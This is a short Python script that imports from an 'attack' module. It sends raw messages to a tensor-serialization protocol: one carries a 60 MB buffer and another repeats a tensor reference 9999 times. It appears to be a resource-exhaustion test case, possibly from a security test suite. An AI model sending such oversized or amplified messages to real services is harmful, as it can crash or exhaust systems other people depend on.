from attack import *


@at_call
def send():
    try:
        send_raw(message({"tensor": 0}, [["uint8", [60 << 20], "cpu"]], bytes(60 << 20)))
        send_raw(message({"list": [{"tensor": 0}] * 9999}, [["uint8", [1], "cpu"]] * 9999, bytes(9999)))
    finally:
        pass
